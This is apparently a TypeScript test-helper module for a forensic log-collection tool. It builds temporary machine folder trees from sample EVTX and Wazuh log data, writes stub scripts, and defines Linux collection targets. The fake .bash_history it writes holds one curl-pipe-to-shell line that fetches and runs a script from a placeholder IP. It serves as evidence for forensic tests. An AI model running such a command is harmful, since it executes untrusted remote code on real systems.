import { chmod, copyFile, mkdir, mkdtemp, readdir, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import type { CollectionTarget } from "../targets/target-schema";

/** Real data shipped with the project (read-only): shared/data next to the checkout. */
export const SHARED_DATA = path.resolve(import.meta.dirname, "../../../../../shared/data");
const EVTX_DIR = path.join(
  SHARED_DATA,
  "evtx/EVTX-to-MITRE-Attack/TA0008-Lateral Movement/T1021.002-SMB Windows Admin Shares",
);
const LOG_DIR = path.join(SHARED_DATA, "logs/wazuh-ruleset-tests/extracted-lines");

/** A temp folder. */
export function tempDir(prefix: string): Promise<string> {
  return mkdtemp(path.join(os.tmpdir(), `sonae-kit-${prefix}-`));
}

/** Real EVTX files from shared/data (first `count`). */
export async function realEvtxFiles(count = 3): Promise<string[]> {
  const names = (await readdir(EVTX_DIR)).filter((n) => n.endsWith(".evtx")).sort();
  return names.slice(0, count).map((n) => path.join(EVTX_DIR, n));
}

/**
 * A machine's folder tree with real logs and EVTX files: var/log (text logs from shared/data),
 * home/alice/.bash_history, and vpn-export (EVTX files, as a person would add exported logs).
 */
export async function makeMachineTree(
  root: string,
): Promise<{ varLog: string; vpnExport: string; files: string[] }> {
  const varLog = path.join(root, "var", "log");
  const vpnExport = path.join(root, "vpn-export");
  await mkdir(path.join(varLog, "sshd"), { recursive: true });
  await mkdir(path.join(root, "home", "alice"), { recursive: true });
  await mkdir(vpnExport, { recursive: true });
  const files: string[] = [];
  for (const name of (await readdir(LOG_DIR)).sort().slice(0, 6)) {
    const target = path.join(varLog, "sshd", name);
    await copyFile(path.join(LOG_DIR, name), target);
    files.push(target);
  }
  for (const evtx of await realEvtxFiles()) {
    const target = path.join(vpnExport, path.basename(evtx).replace(/[^A-Za-z0-9.-]+/g, "_"));
    await copyFile(evtx, target);
    files.push(target);
  }
  const history = path.join(root, "home", "alice", ".bash_history");
  await writeFile(history, "curl -s http://203.0.113.7/x.sh | sh\n");
  files.push(history);
  return { varLog, vpnExport, files };
}

/** Writes an executable shell script `name` into `binDir` (a stub for wevtutil, journalctl, …). */
export async function writeStub(binDir: string, name: string, script: string): Promise<void> {
  await mkdir(binDir, { recursive: true });
  const file = path.join(binDir, name);
  await writeFile(file, `#!/bin/sh\n${script}\n`);
  await chmod(file, 0o755);
}

/** Linux targets over the test tree, shaped like content/collect (a journal command via a stub). */
export function linuxTestTargets(root: string): CollectionTarget[] {
  const source = { name: "test", url: "https://example.org/" };
  const text = (t: string) => ({ ja: t, en: t });
  return [
    {
      id: "tree-var-log",
      platform: "linux",
      title: text("var/log"),
      why: text("logs"),
      needsAdmin: false,
      paths: [path.join(root, "var/log")],
      source,
    },
    {
      id: "tree-histories",
      platform: "linux",
      title: text("histories"),
      why: text("histories"),
      needsAdmin: true,
      paths: [path.join(root, "home/*/.bash_history")],
      source,
    },
    {
      id: "tree-journal",
      platform: "linux",
      title: text("journal"),
      why: text("journal"),
      needsAdmin: true,
      commands: [
        {
          program: "journalctl",
          args: ["-o", "export", "--no-pager"],
          output: "journal.export",
          stdout: true,
        },
      ],
      source,
    },
  ];
}
